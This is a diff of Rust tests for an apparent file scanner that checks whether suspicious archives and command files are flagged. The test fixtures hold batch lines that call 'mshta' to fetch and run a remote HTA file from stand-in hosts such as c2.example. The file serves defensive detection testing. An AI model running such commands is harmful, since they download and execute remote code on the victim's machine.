@@ -110,11 +110,30 @@ fn a_project_under_the_name_of_a_text_is_read() {
 #[test]
 fn both_of_two_archives_in_a_row_are_read() {
     let options = SimpleFileOptions::default();
-    let first = archive(&[("run.bat", b"@echo off\r\nmshta https://c2.example/a.hta\r\n")], options);
-    let report = examine("x.zip", &[first, archive(&[("note.txt", b"hello")], options)].concat());
-    let names: Vec<&str> = report.children.iter().map(|child| child.evidence.name.as_str()).collect();
+    let first = archive(
+        &[("run.bat", b"@echo off\r\nmshta https://c2.example/a.hta\r\n")],
+        options,
+    );
+    let report = examine(
+        "x.zip",
+        &[first, archive(&[("note.txt", b"hello")], options)].concat(),
+    );
+    let names: Vec<&str> = report
+        .children
+        .iter()
+        .map(|child| child.evidence.name.as_str())
+        .collect();
     assert_eq!(names, ["run.bat", "note.txt"]);
     assert!(report.verdict() >= Verdict::Suspicious);
+}
+
+#[test]
+fn a_short_command_with_a_zero_byte_is_not_cleared() {
+    assert_eq!(
+        examine("a.cmd", b"\0\r\nmshta a.example/x").verdict(),
+        Verdict::NotCleared
+    );
+    assert_eq!(examine("a.bin", &[1, 2, 3, 0, 200, 7]).verdict(), Verdict::Clean);
 }
 
 #[test]
